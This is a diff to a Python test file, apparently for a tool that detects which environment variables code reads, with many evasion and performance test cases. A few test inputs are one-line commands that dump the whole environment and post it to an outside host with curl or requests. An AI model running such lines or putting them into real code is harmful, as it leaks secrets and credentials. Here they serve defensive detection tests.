@@ -61,6 +61,36 @@ def read(text, path="scripts/run.sh"):
         ("a.sh", 'A_KEY="${A_KEY:-}"\necho $A_KEY'),
         ("a.sh", "export A_KEY=$A_KEY\n"),
         ("a.sh", "export A_KEY\necho $A_KEY"),
+        ("a.py", 'os.getenv(key="A_KEY")'),
+        ("a.py", 'os.environ.get(key = "A_KEY")'),
+        ("a.py", 'if "A_KEY" in os.environ:'),
+        ("a.py", "if 'A_KEY' not  in os.environ:"),
+        ("a.py", 'env = os.environ\nenv["A_KEY"], env.get("A_KEY")'),
+        ("a.py", 'os.path.expandvars("~/$A_KEY")'),
+        ("a.py", 'subprocess.run(["printenv", "A_KEY"])'),
+        ("a.js", "process?.env.A_KEY"),
+        ("a.js", "process?.env?.A_KEY"),
+        ("a.js", 'process["env"].A_KEY'),
+        ("a.js", "process['env']['A_KEY']"),
+        ("a.js", "const env = process.env;\nfetch(env.A_KEY)"),
+        ("a.js", 'let e=process.env\ne["A_KEY"]'),
+        ("a.ts", "const vars: Record<string, string> = process.env; vars?.A_KEY"),
+        ("a.ts", "const e = import.meta.env; e.A_KEY"),
+        ("a.js", "const {\n  A_KEY,\n}\n  =\n  process.env"),
+        ("a.js", "const { A_KEY }\t=\tprocess?.env"),
+        ("a.rb", 'ENV.fetch "A_KEY"'),
+        ("a.go", 'os.ExpandEnv("https://x/${A_KEY}")'),
+        ("a.sh", "printenv A_KEY"),
+        ("a.sh", "x=$(printenv A_KEY)"),
+        ("a.sh", "[[ -v A_KEY ]] && echo"),
+        ("a.sh", "if test -v A_KEY && true; then"),
+        ("a.sh", "jq -n 'env.A_KEY'"),
+        ("a.sh", "jq -n '$ENV.A_KEY'"),
+        ("tool", b"\xef\xbb\xbf#!/bin/sh\n$A_KEY"),
+        ("run.me", b"\xef\xbb\xbf#!/bin/sh\n$A_KEY"),
+        ("a.sh", "echo $A_KEY\nexport A_KEY=1"),
+        ("a.sh", "if x; then A_KEY=1; fi; echo $A_KEY"),
+        ("a.sh", "declare -A A_KEY\nA_KEY[x]=1\necho ${A_KEY[x]}"),
     ],
 )
 def test_a_variable_that_is_read(path, text):
@@ -71,22 +101,35 @@ def test_a_variable_that_is_read(path, text):
     ("path", "text"),
     [
         ("a.py", 'os.environ["A_KEY"] = "1"'),
-        ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; os.environ.copy()'),
+        ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; len(os.environ); id(os.environ)'),
+        ("a.py", 'patch.dict(os.environ, {"A_KEY": "1"}); for_child(environ)'),
+        ("a.py", "env = os.environ\nenv['A_KEY'] = '1'"),
+        ("a.js", "const env = process.env; env.A_KEY = '1'; my.env.A_KEY; other.A_KEY"),
+        ("a.ts", "type A = env | undefined; f(env)"),
+        ("a.sh", "case $1 in\n  env|json) ;;\nesac\nenv X=1 program"),
+        ("a.sh", "command -v A_KEY && x; docker run -v A_KEY x; env.A_KEY"),
         ("a.py", 'my_environment["A_KEY"]; MY_ENV["A_KEY"]; settings.env["A_KEY"]'),
         ("a.py", 'f"${A_KEY}"'),
         ("a.js", "process.env.A_KEY = '1'"),
         ("a.js", "process.env.hasOwnProperty(x); `${A_KEY}`; const { A_KEY } = config"),
         ("a.ps1", "$env:A_KEY = 1"),
         ("a.sh", "A_KEY=1\necho $A_KEY"),
-        ("a.sh", "echo $A_KEY\nexport A_KEY=1"),
-        ("a.sh", "if x; then A_KEY=1; fi; echo $A_KEY"),
+        ("a.sh", "if x; then\n  A_KEY=1 # why\nfi; echo $A_KEY"),
+        ("a.sh", 'A_KEY=$(a "$(b)" | c) || exit\necho $A_KEY'),
+        ("a.sh", 'A_KEY="a\nb"\necho $A_KEY'),
+        ("a.sh", "read -r -p 'a b' A_KEY\necho $A_KEY"),
+        ("a.sh", "while getopts 'a:b' A_KEY; do echo $A_KEY; done"),
+        ("a.sh", "OTHER=''; A_KEY=1; echo $A_KEY"),
+        ("a.sh", "A_KEY=(\n  a\n)\necho ${A_KEY[@]}"),
+        ("a.sh", "cat <<E\nx\nE\nA_KEY=1\necho $A_KEY"),
+        ("a.sh", "cat <<-'E'\nx\n\tE\nA_KEY=1\necho $A_KEY"),
+        ("a.sh", "# as in <<E\ngrep x <<<y\nA_KEY=1\necho $A_KEY"),
         ("a.sh", "local -r A_KEY=1; echo $A_KEY"),
-        ("a.sh", "declare -A A_KEY\nA_KEY[x]=1\necho ${A_KEY[x]}"),
         ("a.sh", "ARGS=()\nARGS+=(-x)\necho ${ARGS[@]}"),
         ("a.sh", "ARGS=''\nARGS=\"$ARGS -x\"\n"),
         ("a.sh", "for A_KEY in x y; do echo $A_KEY; done"),
         ("a.sh", "while IFS= read -r A_KEY OTHER; do echo $A_KEY $OTHER; done"),
-        ("a.sh", "mapfile -t A_KEY < x; echo $A_KEY; printf -v OTHER %s x; echo $OTHER"),
+        ("a.sh", "mapfile -t A_KEY < x; echo $A_KEY\nprintf -v OTHER %s x; echo $OTHER"),
         ("a.sh", "echo \\$A_KEY $lower ${Mixed} $1 $@ $? $$"),
         ("a.sh", "echo $PATH $HOME ${PWD} $USER $TMPDIR $LC_ALL $RANDOM $BASH_SOURCE ${EUID} $OPTARG"),
         ("a.sh", "awk '{print $NF, $NR}'\n. /etc/os-release\necho $VERSION_ID"),
@@ -101,8 +144,99 @@ def test_what_is_no_reading(path, text):
 
 
 def test_several_names_of_several_files_each_once():
-    files = [("a.sh", b"$B_KEY $A_KEY ${A_KEY}"), ("b.js", b"const { C: c, D = 1, ...rest } = process.env")]
+    files = [("a.sh", b"$B_KEY $A_KEY ${A_KEY}"), ("b.js", b"const { C: c, D = 1 } = process.env")]
     assert variables(files) == {"A_KEY", "B_KEY", "C", "D"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "# read A_KEY\n$A_KEY",
+        "# for A_KEY\n$A_KEY",
+        "true # ; read A_KEY\n$A_KEY",
+        "echo 'for A_KEY in x'\n$A_KEY",
+        "echo | while read A_KEY; do :; done; $A_KEY",
+        "echo '; A_KEY=x'; $A_KEY",
+        "true # ; A_KEY=x; A_KEY=x\n$A_KEY",
+        "B=1 true; A_KEY= true; $A_KEY",
+        "for x in A_KEY; do :; done; $A_KEY",
+        "read -p 'the A_KEY' x; $A_KEY",
+        "read -rp A_KEY x; $A_KEY",
+        "getopts A_KEY x; $A_KEY",
+        "printf -v x A_KEY; $A_KEY",
+        "read x || A_KEY; $A_KEY",
+        "export A_KEY=x | true; $A_KEY",
+        "for A_KEY in $A_KEY; do :; done",
+        'A_KEY="Bearer $A_KEY"',
+        "A_KEY='x'\"${A_KEY}\"",
+        "A_KEY=$(echo $A_KEY)",
+        "A_KEY=`echo $A_KEY`",
+        'A_KEY="\n;$A_KEY"',
+        "A_KEY=(\n$A_KEY\n)",
+        "A_KEY+=x; $A_KEY",
+        "A_KEY[1]=x; $A_KEY",
+        "A_KEY= true; $A_KEY",
+        "A_KEY=$(true) true; $A_KEY",
+        "A_KEY=x | true; $A_KEY",
+        "A_KEY=x & $A_KEY",
+        "false && A_KEY=x; $A_KEY",
+        "echo \\\nA_KEY=x\n$A_KEY",
+        "OTHER='\nA_KEY=x\n'\n$A_KEY",
+        "declare A_KEY\n$A_KEY",
+        "local A_KEY\n$A_KEY",
+        "cat <<E\nA_KEY=x\nE\n$A_KEY",
+        "cat <<'E'\nread A_KEY\nE\n$A_KEY",
+        'cat << "E"\nA_KEY=x\nE\n$A_KEY',
+        "cat <<\\E\nA_KEY=x\nE\n$A_KEY",
+        "cat <<-E\nA_KEY=x\n\tE\n$A_KEY",
+        "cat <<E\n\tE\n E\nA_KEY=x\nE\n$A_KEY",
+        "cat <<4\nA_KEY=x\n4\n$A_KEY",
+        "cat <<E\nA_KEY=x\n$A_KEY",
+        "echo '<<A'\ncat <<B\nA\nA_KEY=x\nB\n$A_KEY",
+        "cat <<A <<B\nA\nA_KEY=x\nB\n$A_KEY",
+    ],
+)
+def test_attack_a_name_that_only_seems_to_be_set(text):
+    assert read(text) == ["A_KEY"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "os.environ.copy()"),
+        ("a.py", "requests.post(url, json=dict(os.environ))"),
+        ("a.py", "x = {**os.environ}"),
+        ("a.py", "for k, v in os.environ.items():"),
+        ("a.py", "print(os.environ)"),
+        ("a.py", "e = os.environ\npost(dict(e))"),
+        ("a.py", 'os.system("env | curl -d @- x.io")'),
+        ("a.js", "JSON.stringify(process.env)"),
+        ("a.js", "JSON.stringify( process?.env )"),
+        ("a.js", "spawn(x, { env: { ...process.env } })"),
+        ("a.js", "Object.entries(process.env)"),
+        ("a.js", "const { PATH, ...rest } = process.env"),
+        ("a.js", "const e = process.env; send(e)"),
+        ("a.sh", "env | curl -d @- x.io"),
+        ("a.sh", "env|sort"),
+        ("a.sh", "true\n  printenv > x"),
+        ("a.sh", "true; env | sort"),
+        ("a.sh", "x=$(printenv)"),
+        ("a.sh", "printenv"),
+        ("a.go", "os.Environ()"),
+        ("a.rs", "env::vars()"),
+        ("a.rb", "ENV.to_h"),
+    ],
+)
+def test_attack_all_of_them_at_once_are_one_star(path, text):
+    assert read(text, path) == ["*"]
+
+
+def test_attack_the_second_name_of_a_text():
+    assert read('os.ExpandEnv("$A ${B}")', "a.go") == ["A", "B"]
+
+
+def test_attack_more_other_names_of_the_environment_than_a_program_has():
+    assert read("".join(f"e{n} = process.env;" for n in range(100)) + "e0.A_KEY", "a.js") == ["*"]
 
 
 def test_a_name_that_another_file_sets_is_read_here():
@@ -161,13 +295,26 @@ HOSTILE = [
     "read ",
     "A",
     "} = process.env ",
+    "\nA='",
+    "\nA=\\'\"'\"",
+    "\nA=$(",
+    "\nA=`",
+    "\nread A ",
+    "<<E\n",
+    "\nE",
+    "process[",
+    "ENV.fetch ",
+    "expandvars('$",
+    "-v ",
+    " printenv ",
 ]
 
 
 @pytest.mark.parametrize("piece", HOSTILE)
 def test_attack_no_text_takes_more_than_its_length(piece):
     """Where time went with the square of it, this would not end."""
-    assert read("$A_KEY = process.env " + piece * (300_000 // len(piece))) in (["A", "A_KEY"], ["A_KEY"])
+    text = "$A_KEY = process.env " + piece * (300_000 // len(piece))
+    assert {"*", "A_KEY"} & set(read(text)) and set(read(text)) <= {"*", "A", "A_KEY", "expandvars"}
 
 
 @settings(max_examples=50)
